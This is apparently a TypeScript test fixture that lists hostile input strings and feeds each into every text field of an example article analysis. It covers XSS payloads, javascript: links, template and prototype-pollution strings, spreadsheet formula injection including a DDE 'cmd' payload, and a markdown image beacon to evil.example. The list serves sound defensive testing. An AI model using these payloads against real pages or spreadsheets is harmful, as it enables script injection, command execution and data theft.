// Strings that a page, a server or a file might use to become more than text, for tests.

import type { Analysis, Article } from "./analysis";
import { analysis, article } from "./example";

export const HOSTILE: readonly string[] = [
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(1)</script>",
  "</textarea></style></title><svg/onload=alert(1)>",
  '"><b id=injected>bold</b>',
  "' onmouseover='alert(1)",
  "javascript:alert(1)",
  "[a link](javascript:alert(1))",
  "![](https://evil.example/?stolen)",
  "<https://evil.example/>",
  "https://evil.example/ www.evil.example",
  "# not a heading",
  "| a | table |",
  "> a quotation\n\n<details open ontoggle=alert(1)>",
  "1. not a list",
  '=HYPERLINK("https://evil.example","x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "＝1+1",
  'a,b"c\r\nd;e',
  "{{constructor.constructor('alert(1)')()}}",
  "__proto__",
  "constructor",
  "\u202eright to left",
  "zero\u200bwidth\ufeff",
  "𝒜stral 🚢 and \u0301 combining",
  "x".repeat(2_000),
];

/** The example with this string in every field that holds words, and with addresses that are no addresses. */
export function hostileReading(text: string): { article: Article; analysis: Analysis } {
  return {
    article: { ...article, title: text, byline: text, publisher: text, published: text },
    analysis: {
      ...analysis,
      article: { ...analysis.article, title: text },
      engine: { ...analysis.engine, version: text },
      actors: analysis.actors.map((actor) => ({ ...actor, name: text, role: text })),
      quotes: analysis.quotes.map((quote) => ({
        ...quote,
        ...{ speakers: quote.id === "q1" ? [] : quote.speakers, speaker_text: text, because: [text] },
      })),
      notes: analysis.notes.map((note) => ({
        ...note,
        ...{ title: text, text, value: text, as_of: text, because: [text] },
        sources: [
          { title: text, url: text, licence: text },
          { title: text, url: "javascript:alert(1)", licence: null },
        ],
      })),
    },
  };
}
